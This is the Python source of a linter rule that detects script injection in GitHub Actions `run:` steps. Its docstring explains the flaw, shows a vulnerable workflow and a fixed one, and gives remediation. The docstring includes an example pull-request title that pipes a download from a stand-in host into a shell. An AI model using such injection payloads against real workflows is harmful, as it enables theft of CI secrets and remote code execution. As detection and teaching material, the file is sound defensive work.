"""A `run:` script expands attacker-controlled event data with `${{ }}`.

## What it does
Flags each step whose `run:` script contains a `${{ ... }}` expression reading a field any
GitHub user can write: issue, pull request, discussion, comment and review titles and bodies,
`pull_request.head.ref`/`head.label`, `github.head_ref`, commit messages and author names and
e-mails (`commits.*`, `head_commit`), wiki page names (`pages.*.page_name`) and
`workflow_run.head_branch`/`head_commit.*`. Spacing and index syntax
(`github.event['issue']['title']`) do not hide it. One finding per step.

## Why is this bad
GitHub substitutes `${{ }}` into the script text before the shell runs it, so a pull request
titled `"; curl -s https://evil.example/x | sh #` becomes shell code with the workflow's token
and secrets: the registry and cluster credentials that deploy every Odoo tenant. Quoting in the
script does not help, because the substitution happens before the shell parses quotes.

## Example (must fail)
```yaml file=.github/workflows/triage.yml
on:
  issues:
    types: [opened]
permissions:
  issues: write
jobs:
  triage:
    runs-on: ubuntu-24.04
    steps:
      - name: Label tenant requests
        run: |
          if echo "${{ github.event.issue.title }}" | grep -qi tenant; then
            gh issue edit ${{ github.event.issue.number }} --add-label tenant
          fi
```

## Use instead (must pass)
```yaml file=.github/workflows/triage.yml
on:
  issues:
    types: [opened]
permissions:
  issues: write
jobs:
  triage:
    runs-on: ubuntu-24.04
    steps:
      - name: Label tenant requests
        env:
          TITLE: ${{ github.event.issue.title }}
          NUMBER: ${{ github.event.issue.number }}
        run: |
          if printf '%s' "$TITLE" | grep -qi tenant; then
            gh issue edit "$NUMBER" --add-label tenant
          fi
```

## Remediation
Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`)
and use `"$TITLE"` in the script, quoted: the shell then treats it as data. `zizmor --fix`
rewrites simple cases. Numbers and SHAs (`issue.number`, `pull_request.head.sha`) are safe.

## References
GitHub Security Lab "Untrusted input"; GitHub docs "Security hardening: understanding the risk
of script injections". Peers: Checkov CKV_GHA_2, zizmor template-injection, KICS 20f14e1a "Run
Block Injection". Unlike Checkov's list this one covers `github.head_ref`, `workflow_run`,
discussions and index syntax; `actions/github-script` `script:` inputs are not covered here.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from bulkhead.controls import Domain, Hit, Meta, Scope, Settings
from bulkhead.controls.cicd._workflow import expressions, hit, jobs, run_script, step_name, steps
from bulkhead.model import Severity
from bulkhead.sources.configfiles import ConfigFile

META = Meta(
    id="CI004",
    slug="untrusted-input-in-run",
    title="Attacker-controlled expression expanded in a run script",
    domain=Domain.CICD,
    severity=Severity.HIGH,
    scope=Scope.CONFIG,
    references={"checkov": ("CKV_GHA_2",)},
    kinds=frozenset({"github-workflow"}),
)

_E = r"github\.event\."
_UNTRUSTED = re.compile(
    r"(?<![\w.])(?:"
    rf"{_E}(?:issue|discussion)\.(?:title|body)"
    rf"|{_E}pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)"
    rf"|{_E}(?:comment|review|review_comment)\.body"
    rf"|{_E}pages\.[^.]+\.page_name"
    rf"|{_E}commits\.[^.]+\.(?:message|author\.email|author\.name)"
    rf"|{_E}head_commit\.(?:message|author\.[\w*]+)"
    rf"|{_E}workflow_run\.(?:head_branch|head_commit\.[\w*.]+)"
    r"|github\.head_ref"
    r")(?![\w-])"
)


def check(config: ConfigFile, settings: Settings) -> Iterator[Hit]:
    for job_id, job in jobs(config.document):
        for index, step in steps(job):
            script = run_script(step)
            if script is None:
                continue
            found: list[str] = []
            for expression in expressions(script):
                for match in _UNTRUSTED.finditer(expression):
                    if match.group(0) not in found:
                        found.append(match.group(0))
            if found:
                yield hit(
                    config,
                    ("jobs", job_id, "steps", index, "run"),
                    f"{step_name(job_id, index, step)} expands attacker-controlled "
                    f"{', '.join(found)} into its run script: pass it through `env:` and use "
                    '"$VAR" in the script instead',
                )
